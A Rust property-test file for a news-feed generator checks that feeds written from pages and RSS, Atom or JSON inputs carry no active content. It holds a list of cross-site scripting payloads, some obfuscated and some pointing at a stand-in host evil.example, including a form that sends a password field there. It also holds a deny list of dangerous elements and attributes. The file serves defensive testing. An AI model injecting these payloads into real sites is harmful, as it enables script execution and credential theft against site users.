//! Property test: whatever hostile markup an input carries, in a page or in any feed format,
//! the feeds written from it hold no active content.

use proptest::prelude::*;

use super::*;
use crate::write::{self, Format, Layout};

/// Pieces of markup that try to get active content through, in the spellings filters miss.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">a</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">b</a>",
    "<a href=\" jav&#x09;ascript:alert(1)\">c</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">d</a>",
    "<a href=\"java\u{1}script:alert(1)\">f</a>",
    "<a href=\"java&#1;script:alert(1)\">g</a>",
    "<a href=\"vbscript:msgbox(1)\">e</a>",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<form action=\"https://evil.example/\"><input name=pw><button>go</button></form>",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">s</div>",
    "<p onmouseover=\"alert(1)\">p</p>",
    "<body onload=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
];

const BENIGN: &[&str] = &[
    "<p>Kommunen vedtog budgettet efter en lang debat i byrådet.</p>",
    "<p>Annonce</p>",
    "<h2>Mellemrubrik</h2>",
    "<a href=\"/relativ/sti\">relativ</a>",
    "<ul><li>punkt</li></ul>",
    "Løs tekst & mere < end så",
];

fn fragment() -> impl Strategy<Value = String> {
    let atom = prop_oneof![
        proptest::sample::select(HOSTILE).prop_map(str::to_string),
        proptest::sample::select(BENIGN).prop_map(str::to_string),
    ];
    proptest::collection::vec(atom, 1..8).prop_map(|parts| parts.concat())
}

fn xml_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// The fragment wrapped as one of the inputs the program reads.
fn wrap(kind: u8, html: &str) -> String {
    let long = "Brødtekst om sagen i kommunen. ".repeat(12);
    match kind {
        0 => format!(
            "<!DOCTYPE html><html><head><link rel=canonical href=\"https://news.example.dk/art/1\"></head>\
             <body><article><h1>Overskrift</h1><p class=lede>{long}</p>{html}<p>{long}</p></article></body></html>"
        ),
        1 => format!(
            "<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>t</title><link>https://news.example.dk/</link>\
             <item><title>Titel</title><link>https://news.example.dk/art/2</link>\
             <description>{}</description></item></channel></rss>",
            xml_escape(html)
        ),
        2 => format!(
            "<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>t</title><link>https://news.example.dk/</link>\
             <item><title>Titel</title><link>https://news.example.dk/art/3</link>\
             <description><![CDATA[{}]]></description></item></channel></rss>",
            html.replace("]]>", "")
        ),
        3 => format!(
            "<?xml version=\"1.0\"?><feed xmlns=\"http://www.w3.org/2005/Atom\"><title>t</title><id>urn:t</id>\
             <updated>2025-09-01T08:00:00Z</updated><entry><title>Titel</title><id>urn:t:1</id>\
             <link href=\"https://news.example.dk/art/4\"/><updated>2025-09-01T08:00:00Z</updated>\
             <content type=\"html\">{0}</content><summary type=\"html\">{0}</summary></entry></feed>",
            xml_escape(html)
        ),
        5 => format!(
            "<html><body><article><h1>Overskrift uden adresse</h1><p class=lede>{long}</p>{html}<p>{long}</p></article></body></html>"
        ),
        _ => serde_json::json!({
            "version": "https://jsonfeed.org/version/1.1",
            "title": "t",
            "items": [{"id": "1", "url": "https://news.example.dk/art/5", "title": "Titel",
                       "content_html": html, "summary": html}]
        })
        .to_string(),
    }
}

/// Active content in an item body, checked on its parsed elements, not its spelling.
fn active_content(body: &str) -> Option<String> {
    const ELEMENTS: &[&str] = &[
        "script", "iframe", "object", "embed", "base", "meta", "form", "input", "button", "svg",
        "math", "style", "link", "frame", "frameset", "applet", "noscript",
    ];
    let doc = scraper::Html::parse_fragment(body);
    for node in doc.root_element().descendants() {
        let Some(el) = scraper::ElementRef::wrap(node) else {
            continue;
        };
        let name = el.value().name();
        if ELEMENTS.contains(&name) {
            return Some(format!("<{name}>"));
        }
        for (attr, value) in el.value().attrs() {
            let v: String = value
                .chars()
                .filter(|c| !c.is_whitespace() && !c.is_control())
                .collect::<String>()
                .to_ascii_lowercase();
            if attr.starts_with("on") || attr == "style" {
                return Some(format!("{name}[{attr}]"));
            }
            if ["javascript:", "data:", "vbscript:"]
                .iter()
                .any(|s| v.starts_with(s))
            {
                return Some(format!("{name}[{attr}={value}]"));
            }
        }
    }
    None
}

static RULES: std::sync::LazyLock<Rules> = std::sync::LazyLock::new(Rules::builtin);

proptest! {
    #![proptest_config(ProptestConfig { cases: 128, ..ProptestConfig::default() })]

    #[test]
    fn feeds_carry_no_active_content(kind in 0u8..6, html in fragment()) {
        let options = Options {
            rules: &RULES,
            kind: None,
            tz: chrono_tz::Europe::Copenhagen,
            source_name: "t",
        };
        let text = wrap(kind, &html);
        let doc = input::from_bytes("in", None, text.as_bytes(), None, None).expect("decodes");
        let mut outcome = Outcome::default();
        outcome.items_from(&doc, &options).expect("extracts");
        let dir = tempfile::tempdir().expect("tmp");
        let layout = Layout {
            dir: dir.path().to_path_buf(),
            name: "t".into(),
            formats: Format::ALL.to_vec(),
            base_url: None,
            site_link: None,
            ttl: None,
        };
        let now = DateTime::parse_from_rfc3339("2026-01-01T00:00:00Z").expect("date");
        for written in write::write_feeds(&layout, &outcome.items, now).expect("writes") {
            let bytes = std::fs::read(&written.path).expect("read");
            let feed = feed_rs::parser::parse(bytes.as_slice()).expect("parses");
            for entry in feed.entries {
                let bodies = entry
                    .content
                    .and_then(|c| c.body)
                    .into_iter()
                    .chain(entry.summary.map(|s| s.content));
                for body in bodies {
                    prop_assert_eq!(active_content(&body), None, "{}", body);
                }
            }
        }
    }
}
